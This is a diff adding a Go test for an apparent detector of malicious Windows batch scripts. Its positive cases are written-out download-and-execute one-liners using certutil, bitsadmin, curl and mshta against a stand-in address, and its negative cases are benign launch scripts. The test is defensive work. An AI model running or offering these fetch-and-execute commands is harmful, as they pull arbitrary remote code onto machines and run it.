@@ -119,3 +119,23 @@ func TestShell(t *testing.T) {
 		}
 	}
 }
+
+func TestBatch(t *testing.T) {
+	for _, c := range []struct {
+		name, text string
+		want       bool
+	}{
+		{name: "certutil", text: "@echo off\r\ncertutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\nstart \"\" a.exe\r\n", want: true},
+		{name: "bitsadmin", text: "bitsadmin /transfer x http://192.0.2.1/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe", want: true},
+		{name: "curl", text: "curl -o %TEMP%\\a.py http://192.0.2.1/a && python %TEMP%\\a.py", want: true},
+		{name: "mshta", text: "mshta http://192.0.2.1/a.hta", want: true},
+
+		{name: "a model", text: "curl -L -o model.safetensors https://example.org/m\npython app.py --model model.safetensors.index"},
+		{name: "a program", text: "@echo off\ncall venv\\Scripts\\activate.bat\npython launch.py %*\npause"},
+		{name: "an address", text: "start http://127.0.0.1:7860\npython webui.py"},
+	} {
+		if p := source.Batch(c.text); (p != nil) != c.want {
+			t.Errorf("%s: got %+v, want %v", c.name, p, c.want)
+		}
+	}
+}
